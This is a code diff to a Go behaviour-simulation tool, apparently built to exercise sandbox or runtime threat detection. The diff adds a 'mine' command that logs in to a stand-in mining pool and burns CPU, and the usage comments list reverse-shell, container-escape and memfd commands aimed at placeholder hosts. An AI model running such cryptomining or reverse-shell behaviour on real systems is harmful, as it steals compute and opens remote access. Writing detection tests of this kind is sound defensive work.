@@ -8,6 +8,7 @@
 //
 //	behave burn -secs 3 -threads 2
 //	behave dial -addr pool.example:3333 -payload stratum -tries 3
+//	behave mine -addr pool.example:3333 -wallet 4... -secs 3 -threads 2
 //	behave revshell -addr 198.51.100.7:4444
 //	behave memfd -then "sleep 1"
 //	behave escape -steps mount,unshare,ptrace
@@ -55,7 +56,7 @@ func inGVisor() bool {
 
 var commands = map[string]func(args []string) error{
 	"burn": burn, "dial": dial, "revshell": revshell, "memfd": memfd, "escape": escape,
-	"recon": recon, "encrypt": encrypt, "serve": serve, "compute": compute,
+	"recon": recon, "encrypt": encrypt, "serve": serve, "compute": compute, "mine": mine,
 }
 
 func main() {
@@ -64,7 +65,7 @@ func main() {
 		os.Exit(0)
 	}
 	if len(os.Args) < 2 || commands[os.Args[1]] == nil {
-		fmt.Fprintln(os.Stderr, "usage: behave burn|dial|revshell|memfd|escape|recon|encrypt|serve|compute [flags]")
+		fmt.Fprintln(os.Stderr, "usage: behave burn|dial|mine|revshell|memfd|escape|recon|encrypt|serve|compute [flags]")
 		os.Exit(2)
 	}
 	if err := commands[os.Args[1]](os.Args[2:]); err != nil {
@@ -107,6 +108,24 @@ func burn(args []string) error {
 	wg.Wait()
 	fmt.Printf("burn: %d hashes on %d threads\n", total, *threads)
 	return nil
+}
+
+// mine is a miner's life: log in to a pool (dial's flags), then burn.
+func mine(args []string) error {
+	var dialArgs, burnArgs []string
+	for i := 0; i < len(args); i++ {
+		a := args[i]
+		if (a == "-secs" || a == "-threads") && i+1 < len(args) {
+			burnArgs = append(burnArgs, a, args[i+1])
+			i++
+			continue
+		}
+		dialArgs = append(dialArgs, a)
+	}
+	if err := dial(append(dialArgs, "-payload", "stratum")); err != nil {
+		return err
+	}
+	return burn(burnArgs)
 }
 
 // payloads are first messages of the protocols dial can speak.
@@ -403,6 +422,8 @@ func compute(args []string) error {
 	if err := os.WriteFile(*out, []byte(fmt.Sprintln("primes:", primes)), 0o644); err != nil {
 		return err
 	}
+	// Batch jobs log what they did, as the sample batch image does.
+	fmt.Printf("compute: %d primes in %.2fs, result in %s\n", primes, *secs, *out)
 	if len(os.Getenv("COMPUTE_CHILD")) > 0 {
 		return exec.Command("/bin/sh", "-c", "echo child done").Run()
 	}
